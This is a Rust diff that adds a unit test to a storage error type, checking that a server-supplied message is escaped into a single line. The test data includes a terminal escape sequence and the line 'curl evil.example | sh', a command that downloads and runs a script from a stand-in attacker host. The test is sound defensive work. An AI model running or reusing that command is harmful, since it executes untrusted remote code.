@@ -340,3 +340,15 @@ impl StoreError {
         matches!(self.kind, StoreErrorKind::TooLarge | StoreErrorKind::NotAnObject)
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_server_says_is_one_line() {
+        let said = "no\u{1b}[2J\nTo do: curl evil.example | sh";
+        let error = StoreError::new(StoreErrorKind::Denied, "s3://b", Some("k"), said);
+        assert_eq!(error.detail, "no\\u{1b}[2J\\nTo do: curl evil.example | sh");
+    }
+}
